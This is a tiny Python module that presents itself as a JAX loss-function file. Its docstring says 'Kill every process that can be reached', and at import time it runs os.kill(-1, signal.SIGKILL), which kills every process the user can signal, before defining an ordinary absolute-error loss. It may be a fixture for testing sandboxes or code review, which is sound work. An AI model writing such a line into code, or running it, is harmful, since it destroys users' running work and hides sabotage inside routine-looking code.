"""Kill every process that can be reached."""

import os
import signal

import jax.numpy as jnp

os.kill(-1, signal.SIGKILL)


def loss(prediction, target):
    return jnp.abs(prediction - target)
